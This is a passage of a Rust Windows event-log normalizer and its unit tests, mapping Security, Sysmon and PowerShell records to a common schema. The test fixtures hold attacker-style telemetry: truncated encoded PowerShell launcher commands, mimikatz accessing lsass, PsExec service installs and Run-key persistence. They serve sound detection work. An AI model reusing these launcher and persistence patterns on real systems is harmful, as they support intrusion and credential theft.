            .map(str::to_owned)
    })
}

/// PowerShell 4103 (module logging): the payload is the text, the context names the host
/// application and the user.
fn module_logging(f: &mut Fields, ev: &mut Event, rec: &WinRecord) -> bool {
    ev.class = EventClass::Script;
    ev.activity = Activity::Execute;
    let context = f.raw("ContextInfo").unwrap_or("").to_owned();
    ev.script = Some(Script {
        text: f.string("Payload"),
        host_application: context_value(&context, "Host Application"),
        ..Script::default()
    });
    ev.actor.user = context_value(&context, "User")
        .and_then(|u| some_user(split_account(&u)))
        .map(|mut u| {
            u.uid = meaningful(rec.user_sid.as_deref()).map(str::to_owned);
            u
        })
        .or_else(|| system_user(rec));
    if let Some(name) = context_value(&context, "Script Name") {
        ev.attributes.push(("ScriptName".to_owned(), name));
    }
    if let Some(name) = context_value(&context, "Command Name") {
        ev.attributes.push(("CommandName".to_owned(), name));
    }
    ev.actor.user.is_some()
}

/// Windows PowerShell 800 (pipeline execution details): `param1` the command line, `param2`
/// the context (`HostApplication=…`, `UserId=…`), `param3` the details. NXLog keeps only the
/// rendered message, which holds the same three parts.
fn pipeline_details(f: &mut Fields, ev: &mut Event, rec: &WinRecord) -> bool {
    ev.class = EventClass::Script;
    ev.activity = Activity::Execute;
    let (command, context, details) = match f.raw("param2") {
        Some(context) => (f.string("param1"), context.to_owned(), f.string("param3")),
        None => {
            let m = rec.message.as_deref().unwrap_or("");
            let command = m
                .strip_prefix("Pipeline execution details for command line:")
                .and_then(|rest| rest.split("\r\n\r\nContext Information:").next())
                .map(|c| c.trim().trim_end_matches('.').trim().to_owned())
                .filter(|c| !c.is_empty());
            let context = m
                .split_once("Context Information:")
                .map_or("", |(_, rest)| {
                    rest.split("\r\n\r\nDetails:").next().unwrap_or("")
                });
            let details = m
                .split_once("\r\n\r\nDetails:")
                .map(|(_, d)| d.trim().to_owned())
                .filter(|d| !d.is_empty());
            (command, context.to_owned(), details)
        }
    };
    ev.script = Some(Script {
        text: command,
        host_application: context_value(&context, "HostApplication"),
        ..Script::default()
    });
    if let Some(details) = details {
        ev.attributes.push(("Details".to_owned(), details));
    }
    if let Some(name) = context_value(&context, "ScriptName") {
        ev.attributes.push(("ScriptName".to_owned(), name));
    }
    ev.actor.user = context_value(&context, "UserId")
        .and_then(|u| some_user(split_account(&u)))
        .or_else(|| system_user(rec));
    ev.actor.user.is_some()
}

#[cfg(test)]
mod tests {
    //! One realistic record per mapped EventID, with Microsoft's and Sysmon's field names.
    use super::*;

    const SECURITY: (&str, &str) = ("Microsoft-Windows-Security-Auditing", "Security");
    const SYSMON: (&str, &str) = (
        "Microsoft-Windows-Sysmon",
        "Microsoft-Windows-Sysmon/Operational",
    );
    const SCM: (&str, &str) = ("Service Control Manager", "System");
    const PS: (&str, &str) = (
        "Microsoft-Windows-PowerShell",
        "Microsoft-Windows-PowerShell/Operational",
    );

    #[test]
    fn doubled_percent_signs_are_data_and_message_references_are_not() {
        assert_eq!(meaningful(Some("%%1833")), None);
        assert_eq!(meaningful(Some(" - ")), None);
        assert_eq!(
            meaningful(Some("%%COMSPEC%% /c echo x")),
            Some("%%COMSPEC%% /c echo x")
        );
        assert_eq!(
            meaningful(Some(r"%%SystemRoot%%\PSEXESVC.exe")),
            Some(r"%%SystemRoot%%\PSEXESVC.exe")
        );
        assert_eq!(meaningful(Some("%%")), Some("%%"));
    }

    fn rec(family: (&str, &str), id: u32, data: &[(&str, &str)]) -> WinRecord {
        WinRecord {
            provider: Some(family.0.to_owned()),
            channel: Some(family.1.to_owned()),
            event_id: Some(id),
            record_id: Some(42),
            time: Some(1_600_618_616_000),
            computer: Some("WORKSTATION6.theshire.local".to_owned()),
            data: data
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect(),
            ..WinRecord::default()
        }
    }

    fn map(r: &WinRecord) -> Event {
        to_event(r, "test")
            .expect("a well-formed record maps")
            .expect("every record gives an event")
    }

    fn attr<'a>(ev: &'a Event, key: &str) -> Option<&'a str> {
        ev.attributes
            .iter()
            .find(|(k, _)| k == key)
            .map(|(_, v)| v.as_str())
    }

    fn ip(text: &str) -> Option<IpAddr> {
        text.parse().ok()
    }

    #[test]
    fn header_fields_come_from_the_system_part() {
        let ev = map(&rec(SECURITY, 4624, &[]));
        assert_eq!(ev.time, 1_600_618_616_000);
        assert_eq!(ev.source.format, "test");
        assert_eq!(ev.source.code, Some(4624));
        assert_eq!(ev.source.channel.as_deref(), Some("Security"));
        assert_eq!(
            ev.source.provider.as_deref(),
            Some("Microsoft-Windows-Security-Auditing")
        );
        assert_eq!(ev.source.record_id, Some(42));
        assert_eq!(ev.device.hostname.as_deref(), Some("WORKSTATION6"));
        assert_eq!(ev.device.domain.as_deref(), Some("theshire.local"));
    }

    #[test]
    fn a_record_without_id_or_time_is_an_error_naming_the_field() {
        let mut r = rec(SECURITY, 4624, &[]);
        r.event_id = None;
        assert!(to_event(&r, "t").expect_err("no id").contains("EventID"));
        let mut r = rec(SECURITY, 4624, &[]);
        r.time = None;
        assert!(
            to_event(&r, "t")
                .expect_err("no time")
                .contains("TimeCreated")
        );
    }

    #[test]
    fn an_unknown_event_id_is_other_with_all_data_as_attributes() {
        let ev = map(&rec(SECURITY, 4799, &[("A", "1"), ("B", "-"), ("C", "x")]));
        assert_eq!(ev.class, EventClass::Other);
        assert_eq!(
            ev.attributes,
            vec![("A".into(), "1".into()), ("C".into(), "x".into())]
        );
        // same id, other family: Hyper-V's System 10 is not Sysmon's process access
        let ev = map(&rec(
            ("Microsoft-Windows-Hyper-V-Netvsc", "System"),
            10,
            &[],
        ));
        assert_eq!(ev.class, EventClass::Other);
    }

    #[test]
    fn security_4624_network_logon() {
        let ev = map(&rec(
            SECURITY,
            4624,
            &[
                ("SubjectUserSid", "S-1-0-0"),
                ("SubjectUserName", "-"),
                ("SubjectDomainName", "-"),
                ("SubjectLogonId", "0x0"),
                ("TargetUserSid", "S-1-5-21-1-2-3-1104"),
                ("TargetUserName", "pgustavo"),
                ("TargetDomainName", "THESHIRE"),
                ("TargetLogonId", "0x2990d17"),
                ("LogonType", "3"),
                ("LogonProcessName", "NtLmSsp "),
                ("AuthenticationPackageName", "NTLM"),
                ("WorkstationName", "WORKSTATION5"),
                ("LogonGuid", "{00000000-0000-0000-0000-000000000000}"),
                ("TransmittedServices", "-"),
                ("LmPackageName", "NTLM V2"),
                ("KeyLength", "128"),
                ("ProcessId", "0x0"),
                ("ProcessName", "-"),
                ("IpAddress", "::ffff:172.18.39.5"),
                ("IpPort", "56610"),
                ("ImpersonationLevel", "%%1833"),
                ("ElevatedToken", "%%1842"),
            ],
        ));
        assert_eq!(ev.class, EventClass::Authentication);
        assert_eq!(
            (ev.activity, ev.outcome),
            (Activity::Logon, Outcome::Success)
        );
        let user = ev.user.as_ref().expect("target user");
        assert_eq!(user.name.as_deref(), Some("pgustavo"));
        assert_eq!(user.domain.as_deref(), Some("THESHIRE"));
        assert_eq!(user.uid.as_deref(), Some("S-1-5-21-1-2-3-1104"));
        assert_eq!(user.logon_id, Some(0x2990d17));
        // an all-absent subject is no subject (logon id 0 is a value, though)
        assert_eq!(ev.actor.user.as_ref().and_then(|u| u.name.as_deref()), None);
        let src = ev.src.as_ref().expect("source");
        assert_eq!(src.ip, ip("172.18.39.5"));
        assert_eq!(src.port, Some(56610));
        assert_eq!(src.hostname.as_deref(), Some("WORKSTATION5"));
        let auth = ev.auth.as_ref().expect("auth");
        assert_eq!(auth.logon_type, Some(3));
        assert_eq!(auth.protocol, AuthProtocol::Ntlm);
        assert_eq!(auth.key_length, Some(128));
        assert_eq!(auth.logon_process.as_deref(), Some("NtLmSsp"));
        assert!(auth.elevated);
        assert_eq!(attr(&ev, "LmPackageName"), Some("NTLM V2"));
        assert_eq!(attr(&ev, "ImpersonationLevel"), Some("Impersonation"));
        assert_eq!(attr(&ev, "TransmittedServices"), None);
    }

    #[test]
    fn security_4625_failed_logon_keeps_the_substatus() {
        let ev = map(&rec(
            SECURITY,
            4625,
            &[
                ("TargetUserName", "administrator"),
                ("TargetDomainName", "CORP"),
                ("Status", "0xc000006d"),
                ("FailureReason", "%%2313"),
                ("SubStatus", "0xc000006a"),
                ("LogonType", "3"),
                ("AuthenticationPackageName", "NTLM"),
                ("WorkstationName", "KALI"),
                ("IpAddress", "10.0.0.66"),
                ("IpPort", "50056"),
            ],
        ));
        assert_eq!(
            (ev.activity, ev.outcome),
            (Activity::Logon, Outcome::Failure)
        );
        let auth = ev.auth.as_ref().expect("auth");
        assert_eq!(auth.status_code, Some(0xc000006a));
        assert_eq!(auth.logon_type, Some(3));
        assert_eq!(ev.src.as_ref().and_then(|s| s.ip), ip("10.0.0.66"));
        assert_eq!(
            attr(&ev, "FailureReason"),
            None,
            "%% placeholders are absent"
        );
    }

    #[test]
    fn security_4634_logoff() {
        let ev = map(&rec(
            SECURITY,
            4634,
            &[
                ("TargetUserSid", "S-1-5-18"),
                ("TargetUserName", "MORDORDC$"),
                ("TargetDomainName", "THESHIRE"),
                ("TargetLogonId", "0x4b0ad12"),
                ("LogonType", "3"),
            ],
        ));
        assert_eq!(ev.class, EventClass::Authentication);
        assert_eq!(ev.activity, Activity::Logoff);
        assert_eq!(ev.user.as_ref().and_then(|u| u.logon_id), Some(0x4b0ad12));
        assert_eq!(ev.auth.as_ref().and_then(|a| a.logon_type), Some(3));
    }

    #[test]
    fn security_4648_explicit_credentials_names_the_target_server() {
        let ev = map(&rec(
            SECURITY,
            4648,
            &[
                ("SubjectUserSid", "S-1-5-21-1-2-3-1104"),
                ("SubjectUserName", "pgustavo"),
                ("SubjectDomainName", "THESHIRE"),
                ("SubjectLogonId", "0x2990d17"),
                ("LogonGuid", "{00000000-0000-0000-0000-000000000000}"),
                ("TargetUserName", "wardog"),
                ("TargetDomainName", "THESHIRE"),
                ("TargetServerName", "WORKSTATION6.theshire.local"),
                ("TargetInfo", "HTTP/WORKSTATION6.theshire.local"),
                ("ProcessId", "0x1a4"),
                (
                    "ProcessName",
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                ),
                ("IpAddress", "-"),
                ("IpPort", "-"),
            ],
        ));
        assert_eq!(ev.activity, Activity::CredentialValidation);
        assert_eq!(
            ev.user.as_ref().and_then(|u| u.name.as_deref()),
            Some("wardog")
        );
        assert_eq!(
            ev.actor.user.as_ref().and_then(|u| u.name.as_deref()),
            Some("pgustavo")
        );
        assert_eq!(
            ev.auth.as_ref().and_then(|a| a.service.as_deref()),
            Some("WORKSTATION6.theshire.local")
        );
        let p = ev.actor.process.as_ref().expect("acting process");
        assert_eq!(p.pid, Some(0x1a4));
        assert!(ev.src.is_none(), "`-` address and port are absent");
        assert_eq!(
            attr(&ev, "TargetInfo"),
            Some("HTTP/WORKSTATION6.theshire.local")
        );
    }

    #[test]
    fn security_4672_special_privileges_is_elevated() {
        let ev = map(&rec(
            SECURITY,
            4672,
            &[
                ("SubjectUserSid", "S-1-5-21-1-2-3-1104"),
                ("SubjectUserName", "pgustavo"),
                ("SubjectDomainName", "THESHIRE"),
                ("SubjectLogonId", "0x2990d17"),
                (
                    "PrivilegeList",
                    "SeSecurityPrivilege\r\n\t\t\tSeDebugPrivilege",
                ),
            ],
        ));
        assert_eq!(ev.class, EventClass::Authentication);
        assert!(ev.auth.as_ref().is_some_and(|a| a.elevated));
        assert_eq!(ev.user.as_ref().and_then(|u| u.logon_id), Some(0x2990d17));
        assert!(attr(&ev, "PrivilegeList").is_some_and(|p| p.contains("SeDebugPrivilege")));
    }

    #[test]
    fn security_4768_4769_4771_kerberos() {
        let ev = map(&rec(
            SECURITY,
            4768,
            &[
                ("TargetUserName", "pgustavo"),
                ("TargetDomainName", "THESHIRE.LOCAL"),
                ("TargetSid", "S-1-5-21-1-2-3-1104"),
                ("ServiceName", "krbtgt"),
                ("TicketOptions", "0x40810010"),
                ("Status", "0x0"),
                ("TicketEncryptionType", "0x12"),
                ("PreAuthType", "2"),
                ("IpAddress", "::ffff:172.18.39.5"),
                ("IpPort", "56606"),
            ],
        ));
        assert_eq!(ev.activity, Activity::TicketRequest);
        assert_eq!(ev.outcome, Outcome::Success);
        let auth = ev.auth.as_ref().expect("auth");
        assert_eq!(auth.protocol, AuthProtocol::Kerberos);
        assert_eq!(auth.service.as_deref(), Some("krbtgt"));
        assert_eq!(auth.ticket_options, Some(0x40810010));
        assert_eq!(auth.ticket_encryption, Some(0x12));
        assert_eq!(ev.src.as_ref().and_then(|s| s.ip), ip("172.18.39.5"));
        assert_eq!(attr(&ev, "PreAuthType"), Some("2"));

        let ev = map(&rec(
            SECURITY,
            4769,
            &[
                ("TargetUserName", "pgustavo@THESHIRE.LOCAL"),
                ("TargetDomainName", "THESHIRE.LOCAL"),
                ("ServiceName", "WORKSTATION6$"),
                ("ServiceSid", "S-1-5-21-1-2-3-1113"),
                ("TicketOptions", "0x40810000"),
                ("TicketEncryptionType", "0x17"),
                ("IpAddress", "::ffff:172.18.39.5"),
                ("IpPort", "56609"),
                ("Status", "0x0"),
            ],
        ));
        assert_eq!(ev.activity, Activity::ServiceTicket);
        let user = ev.user.as_ref().expect("user");
        assert_eq!(user.name.as_deref(), Some("pgustavo"));
        assert_eq!(user.domain.as_deref(), Some("THESHIRE.LOCAL"));
        let auth = ev.auth.as_ref().expect("auth");
        assert_eq!(auth.service.as_deref(), Some("WORKSTATION6$"));
        assert_eq!(auth.ticket_encryption, Some(0x17));

        let ev = map(&rec(
            SECURITY,
            4771,
            &[
                ("TargetUserName", "bob"),
                ("TargetSid", "S-1-5-21-1-2-3-1105"),
                ("ServiceName", "krbtgt/THESHIRE.LOCAL"),
                ("TicketOptions", "0x40810010"),
                ("Status", "0x18"),
                ("PreAuthType", "2"),
                ("IpAddress", "::ffff:10.0.0.66"),
                ("IpPort", "49273"),
            ],
        ));
        assert_eq!(
            (ev.activity, ev.outcome),
            (Activity::TicketRequest, Outcome::Failure)
        );
        assert_eq!(ev.auth.as_ref().and_then(|a| a.status_code), Some(0x18));
        assert_eq!(ev.src.as_ref().and_then(|s| s.port), Some(49273));
    }

    #[test]
    fn security_4776_ntlm_validation() {
        let ev = map(&rec(
            SECURITY,
            4776,
            &[
                ("PackageName", "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0"),
                ("TargetUserName", "administrator"),
                ("Workstation", "KALI"),
                ("Status", "0xc000006a"),
            ],
        ));
        assert_eq!(ev.activity, Activity::CredentialValidation);
        assert_eq!(ev.outcome, Outcome::Failure);
        let auth = ev.auth.as_ref().expect("auth");
        assert_eq!(auth.protocol, AuthProtocol::Ntlm);
        assert_eq!(auth.status_code, Some(0xc000006a));
        assert_eq!(
            ev.src.as_ref().and_then(|s| s.hostname.as_deref()),
            Some("KALI")
        );
    }

    #[test]
    fn security_4688_process_create_reads_hex_pids() {
        let ev = map(&rec(
            SECURITY,
            4688,
            &[
                ("SubjectUserSid", "S-1-5-18"),
                ("SubjectUserName", "WORKSTATION6$"),
                ("SubjectDomainName", "THESHIRE"),
                ("SubjectLogonId", "0x3e7"),
                ("NewProcessId", "0xfec"),
                ("NewProcessName", "C:\\Windows\\System32\\cmd.exe"),
                ("TokenElevationType", "%%1936"),
                ("ProcessId", "0x1a4"),
                ("CommandLine", "cmd.exe /c whoami"),
                ("TargetUserSid", "S-1-0-0"),
                ("TargetUserName", "-"),
                ("TargetDomainName", "-"),
                ("TargetLogonId", "0x0"),
                ("ParentProcessName", "C:\\Windows\\System32\\services.exe"),
                ("MandatoryLabel", "S-1-16-16384"),
            ],
        ));
        assert_eq!(
            (ev.class, ev.activity),
            (EventClass::Process, Activity::Create)
        );
        let p = ev.process.as_ref().expect("process");
        assert_eq!(p.pid, Some(0xfec));
        assert_eq!(p.image.as_deref(), Some("C:\\Windows\\System32\\cmd.exe"));
        assert_eq!(p.cmd_line.as_deref(), Some("cmd.exe /c whoami"));
        assert_eq!(p.parent_pid, Some(0x1a4));
        assert_eq!(
            p.parent_image.as_deref(),
            Some("C:\\Windows\\System32\\services.exe")
        );
        assert_eq!(p.integrity, Integrity::System);
        assert!(ev.user.is_none(), "no target account");
        assert_eq!(ev.actor.user.as_ref().and_then(|u| u.logon_id), Some(0x3e7));
        assert_eq!(
            attr(&ev, "TokenElevationType"),
            Some("TokenElevationTypeDefault (1)")
        );
    }

    #[test]
    fn security_4697_and_system_7045_service_installs() {
        let ev = map(&rec(
            SECURITY,
            4697,
            &[
                ("SubjectUserName", "pgustavo"),
                ("SubjectDomainName", "THESHIRE"),
                ("SubjectLogonId", "0x2990d17"),
                ("ServiceName", "Updater"),
                (
                    "ServiceFileName",
                    "%COMSPEC% /C start /b powershell -enc SQBm",
                ),
                ("ServiceType", "0x10"),
                ("ServiceStartType", "3"),
                ("ServiceAccount", "LocalSystem"),
            ],
        ));
        assert_eq!((ev.class, ev.activity), (EventClass::Job, Activity::Create));
        let job = ev.job.as_ref().expect("job");
        assert_eq!(job.kind, JobKind::Service);
        assert_eq!(job.name.as_deref(), Some("Updater"));
        assert!(job.command.as_deref().is_some_and(|c| c.contains("-enc")));
        assert_eq!(job.start_type.as_deref(), Some("demand start"));
        assert_eq!(job.account.as_deref(), Some("LocalSystem"));
        assert_eq!(
            ev.actor.user.as_ref().and_then(|u| u.name.as_deref()),
            Some("pgustavo")
        );
        assert_eq!(attr(&ev, "ServiceType"), Some("0x10"));

        let mut r = rec(
            SCM,
            7045,
            &[
                ("ServiceName", "PSEXESVC"),
                ("ImagePath", "%SystemRoot%\\PSEXESVC.exe"),
                ("ServiceType", "user mode service"),
                ("StartType", "demand start"),
                ("AccountName", "LocalSystem"),
            ],
        );
        r.user_sid = Some("S-1-5-21-1-2-3-1104".to_owned());
        let ev = map(&r);
        assert_eq!(ev.class, EventClass::Job);
        let job = ev.job.as_ref().expect("job");
        assert_eq!(job.name.as_deref(), Some("PSEXESVC"));
        assert_eq!(job.command.as_deref(), Some("%SystemRoot%\\PSEXESVC.exe"));
        assert_eq!(job.start_type.as_deref(), Some("demand start"));
        assert_eq!(job.account.as_deref(), Some("LocalSystem"));
        assert_eq!(
            ev.actor.user.as_ref().and_then(|u| u.uid.as_deref()),
            Some("S-1-5-21-1-2-3-1104")
        );
        assert_eq!(attr(&ev, "UserID"), None, "used as the installer");
    }

    #[test]
    fn system_7036_service_state() {
        let ev = map(&rec(
            SCM,
            7036,
            &[("param1", "PSEXESVC"), ("param2", "running")],
        ));
        assert_eq!(
            (ev.class, ev.activity),
            (EventClass::Job, Activity::Execute)
        );
        assert_eq!(
            ev.job.as_ref().and_then(|j| j.name.as_deref()),
            Some("PSEXESVC")
        );
        assert_eq!(attr(&ev, "param2"), Some("running"));
    }

    #[test]
    fn security_4698_task_command_comes_from_its_xml() {
        let xml = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\"><Principals><Principal id=\"Author\"><UserId>S-1-5-18</UserId></Principal></Principals><Actions Context=\"Author\"><Exec><Command>cmd.exe</Command><Arguments>/c echo &quot;x&quot; &gt; C:\\t.txt</Arguments></Exec></Actions></Task>";
        let ev = map(&rec(
            SECURITY,
            4698,
            &[
                ("SubjectUserName", "pgustavo"),
                ("SubjectDomainName", "THESHIRE"),
                ("TaskName", "\\Updater"),
                ("TaskContent", xml),
            ],
        ));
        assert_eq!((ev.class, ev.activity), (EventClass::Job, Activity::Create));
        let job = ev.job.as_ref().expect("job");
        assert_eq!(job.kind, JobKind::ScheduledTask);
        assert_eq!(job.name.as_deref(), Some("\\Updater"));
        assert_eq!(
            job.command.as_deref(),
            Some("cmd.exe /c echo \"x\" > C:\\t.txt")
        );
        assert_eq!(job.account.as_deref(), Some("S-1-5-18"));
        assert!(attr(&ev, "TaskContent").is_none(), "the XML was read");
    }

    #[test]
    fn security_5140_5145_share_access() {
        let ev = map(&rec(
            SECURITY,
            5145,
            &[
                ("SubjectUserSid", "S-1-5-21-1-2-3-1104"),
                ("SubjectUserName", "pgustavo"),
                ("SubjectDomainName", "THESHIRE"),
                ("SubjectLogonId", "0x2990d17"),
                ("ObjectType", "File"),
                ("IpAddress", "172.18.39.5"),
                ("IpPort", "56611"),
                ("ShareName", "\\\\*\\IPC$"),
                ("ShareLocalPath", ""),
                ("RelativeTargetName", "svcctl"),
                ("AccessMask", "0x12019f"),
                ("AccessList", "%%1538\r\n\t\t\t\t%%1541"),
            ],
        ));
        assert_eq!((ev.class, ev.activity), (EventClass::File, Activity::Open));
        let file = ev.file.as_ref().expect("file");
        assert_eq!(file.share_name.as_deref(), Some("\\\\*\\IPC$"));
        assert_eq!(file.relative_target.as_deref(), Some("svcctl"));
        assert_eq!(file.access_mask, Some(0x12019f));
        assert_eq!(ev.src.as_ref().and_then(|s| s.port), Some(56611));
        assert_eq!(
            ev.actor.user.as_ref().and_then(|u| u.name.as_deref()),
            Some("pgustavo")
        );
        assert_eq!(attr(&ev, "ObjectType"), Some("File"));

        let mut r = rec(
            SECURITY,
            5140,
            &[("ShareName", "\\\\*\\ADMIN$"), ("AccessMask", "0x1")],
        );
        r.keywords = Some(0x8010_0000_0000_0000);
        let ev = map(&r);
        assert_eq!(ev.outcome, Outcome::Failure, "audit failure keyword");
        assert_eq!(ev.file.as_ref().and_then(|f| f.access_mask), Some(1));
    }

    #[test]
    fn sysmon_1_process_create() {
        let ev = map(&rec(
            SYSMON,
            1,
            &[
                ("RuleName", "-"),
                ("UtcTime", "2020-09-20 16:16:57.042"),
                ("ProcessGuid", "{d273d0f0-8078-5f67-d306-000000000800}"),
                ("ProcessId", "4312"),
                (
                    "Image",
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                ),
                ("CommandLine", "powershell -noP -sta -w 1 -enc SQBm"),
                ("CurrentDirectory", "C:\\Windows\\system32\\"),
                ("User", "NT AUTHORITY\\SYSTEM"),
                ("LogonGuid", "{d273d0f0-e865-5f64-e703-000000000000}"),
                ("LogonId", "0x3e7"),
                ("IntegrityLevel", "System"),
                ("Hashes", "SHA1=A,MD5=B"),
                (
                    "ParentProcessGuid",
                    "{d273d0f0-8078-5f67-d206-000000000800}",
                ),
                ("ParentProcessId", "1496"),
                ("ParentImage", "C:\\Windows\\System32\\cmd.exe"),
                (
                    "ParentCommandLine",
                    "C:\\Windows\\system32\\cmd.exe /C start /b powershell",
                ),
            ],
        ));
        assert_eq!(
            (ev.class, ev.activity),
            (EventClass::Process, Activity::Create)
        );
        let p = ev.process.as_ref().expect("process");
        assert_eq!(p.pid, Some(4312));
        assert_eq!(p.guid, parse_guid("{d273d0f0-8078-5f67-d306-000000000800}"));
        assert!(p.cmd_line.as_deref().is_some_and(|c| c.contains("-enc")));
        assert_eq!(p.cwd.as_deref(), Some("C:\\Windows\\system32\\"));
        assert_eq!(p.integrity, Integrity::System);
        assert_eq!(p.hashes.as_deref(), Some("SHA1=A,MD5=B"));
        assert_eq!(p.start_time, Some(1_600_618_617_042));
        assert_eq!(p.parent_pid, Some(1496));
        assert_eq!(
            p.parent_image.as_deref(),
            Some("C:\\Windows\\System32\\cmd.exe")
        );
        assert!(p.parent_guid.is_some() && p.parent_cmd_line.is_some());
        let parent = ev.actor.process.as_ref().expect("parent as actor");
        assert_eq!(parent.pid, Some(1496));
        let user = ev.user.as_ref().expect("the account it runs as");
        assert_eq!(user.name.as_deref(), Some("SYSTEM"));
        assert_eq!(user.domain.as_deref(), Some("NT AUTHORITY"));
        assert_eq!(user.logon_id, Some(0x3e7));
        assert!(attr(&ev, "LogonGuid").is_some());
        assert_eq!(attr(&ev, "RuleName"), None);
    }

    #[test]
    fn sysmon_3_network_connection() {
        let ev = map(&rec(
            SYSMON,
            3,
            &[
                ("ProcessGuid", "{d273d0f0-e867-5f64-1200-000000000800}"),
                ("ProcessId", "880"),
                ("Image", "C:\\Windows\\System32\\svchost.exe"),
                ("User", "NT AUTHORITY\\NETWORK SERVICE"),
                ("Protocol", "tcp"),
                ("Initiated", "false"),
                ("SourceIsIpv6", "false"),
                ("SourceIp", "172.18.39.5"),
                ("SourceHostname", "-"),
                ("SourcePort", "56607"),
                ("DestinationIp", "172.18.39.6"),
                ("DestinationPort", "135"),
                ("DestinationPortName", "-"),
            ],
        ));
        assert_eq!(
            (ev.class, ev.activity),
            (EventClass::Network, Activity::Traffic)
        );
        assert_eq!(ev.src.as_ref().and_then(|s| s.ip), ip("172.18.39.5"));
        assert_eq!(ev.dst.as_ref().and_then(|d| d.port), Some(135));
        let n = ev.network.as_ref().expect("network");
        assert_eq!((n.transport, n.protocol_num), (Transport::Tcp, Some(6)));
        assert_eq!(n.direction, Direction::Inbound);
        let p = ev.actor.process.as_ref().expect("process");
        assert_eq!(p.pid, Some(880));
        assert!(p.guid.is_some());
        assert_eq!(
            ev.actor.user.as_ref().and_then(|u| u.name.as_deref()),
            Some("NETWORK SERVICE")
        );
    }

    #[test]
    fn sysmon_7_8_10_target_lands_in_file_path() {
        let ev = map(&rec(
            SYSMON,
            10,
            &[
                (
                    "SourceProcessGUID",
                    "{b34bc01c-7fae-5f63-1000-000000000400}",
                ),
                ("SourceProcessId", "880"),
                ("SourceThreadId", "6124"),
                ("SourceImage", "C:\\tools\\mimikatz.exe"),
                (
                    "TargetProcessGUID",
                    "{b34bc01c-803f-5f63-5402-000000000400}",
                ),
                ("TargetProcessId", "704"),
                ("TargetImage", "C:\\Windows\\system32\\lsass.exe"),
                ("GrantedAccess", "0x1010"),
                ("CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9c534"),
            ],
        ));
        assert_eq!(
            (ev.class, ev.activity),
            (EventClass::Process, Activity::Open)
        );
        let p = ev.process.as_ref().expect("acting process");
        assert_eq!(p.pid, Some(880));
        assert_eq!(p.image.as_deref(), Some("C:\\tools\\mimikatz.exe"));
        assert!(
            p.guid.is_some(),
            "GUID field names are matched without case"
        );
        assert_eq!(
            ev.file.as_ref().and_then(|f| f.path.as_deref()),
            Some("C:\\Windows\\system32\\lsass.exe")
        );
        assert_eq!(attr(&ev, "GrantedAccess"), Some("0x1010"));
        assert_eq!(attr(&ev, "TargetProcessId"), Some("704"));

        let ev = map(&rec(
            SYSMON,
            8,
            &[
                ("SourceProcessId", "880"),
                ("SourceImage", "C:\\evil.exe"),
                ("TargetProcessId", "704"),
                ("TargetImage", "C:\\Windows\\explorer.exe"),
                ("StartAddress", "0x00007FF6"),
            ],
        ));
        assert_eq!(
            ev.file.as_ref().and_then(|f| f.path.as_deref()),
            Some("C:\\Windows\\explorer.exe")
        );

        let ev = map(&rec(
            SYSMON,
            7,
            &[
                ("ProcessGuid", "{d273d0f0-8065-5f67-ca06-000000000800}"),
                ("ProcessId", "4076"),
                ("Image", "C:\\Windows\\System32\\rundll32.exe"),
                ("ImageLoaded", "C:\\Users\\a\\AppData\\Local\\Temp\\x.dll"),
                ("Hashes", "SHA256=AB"),
                ("Signed", "false"),
            ],
        ));
        assert_eq!(ev.process.as_ref().and_then(|p| p.pid), Some(4076));
        let file = ev.file.as_ref().expect("loaded image");
        assert_eq!(
            file.path.as_deref(),
            Some("C:\\Users\\a\\AppData\\Local\\Temp\\x.dll")
        );
        assert_eq!(file.hashes.as_deref(), Some("SHA256=AB"));
        assert_eq!(attr(&ev, "Signed"), Some("false"));
    }

    #[test]
    fn sysmon_11_file_create() {
        let ev = map(&rec(
            SYSMON,
            11,
            &[
                ("ProcessGuid", "{d273d0f0-8078-5f67-d306-000000000800}"),
                ("ProcessId", "4312"),
                (
                    "Image",
                    "C:\\Windows\\System32\\WindowsPowershell\\v1.0\\powershell.exe",
                ),
                ("TargetFilename", "C:\\Windows\\Temp\\payload.exe"),
                ("CreationUtcTime", "2020-09-20 16:17:00.110"),
            ],
        ));
        assert_eq!(
            (ev.class, ev.activity),
            (EventClass::File, Activity::Create)
        );
        assert_eq!(
            ev.file.as_ref().and_then(|f| f.path.as_deref()),
            Some("C:\\Windows\\Temp\\payload.exe")
        );
        assert_eq!(ev.actor.process.as_ref().and_then(|p| p.pid), Some(4312));
        assert!(attr(&ev, "CreationUtcTime").is_some());
    }

    #[test]
    fn sysmon_12_13_registry() {
        let ev = map(&rec(
            SYSMON,
            13,
            &[
                ("EventType", "SetValue"),
                ("ProcessId", "5100"),
                ("Image", "C:\\Users\\a\\AppData\\Local\\Temp\\x.exe"),
                (
                    "TargetObject",
                    "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\updater",
                ),
                ("Details", "C:\\Users\\a\\AppData\\Local\\Temp\\x.exe"),
            ],
        ));
        assert_eq!(
            (ev.class, ev.activity),
            (EventClass::Registry, Activity::Modify)
        );
        let r = ev.registry.as_ref().expect("registry");
        assert_eq!(
            r.key.as_deref(),
            Some("HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run")
        );
        assert_eq!(r.value_name.as_deref(), Some("updater"));
        assert_eq!(
            r.value_data.as_deref(),
            Some("C:\\Users\\a\\AppData\\Local\\Temp\\x.exe")
        );

        let ev = map(&rec(
            SYSMON,
            12,
            &[
                ("EventType", "CreateKey"),
                (
                    "TargetObject",
                    "HKLM\\System\\CurrentControlSet\\Services\\Updater",
                ),
            ],
        ));
        assert_eq!(ev.activity, Activity::Create);
        let r = ev.registry.as_ref().expect("registry");
        assert_eq!(
            r.key.as_deref(),
            Some("HKLM\\System\\CurrentControlSet\\Services\\Updater")
        );
        assert_eq!(r.value_name, None);
    }

    #[test]
    fn sysmon_22_dns_query() {
        let ev = map(&rec(
            SYSMON,
            22,
            &[
                ("ProcessId", "6404"),
                ("QueryName", "WORKSTATION6.theshire.local"),
                ("QueryStatus", "0"),
                (
                    "QueryResults",
                    "type:  5 edge.example.net;::ffff:172.18.39.6;",
                ),
                (
                    "Image",
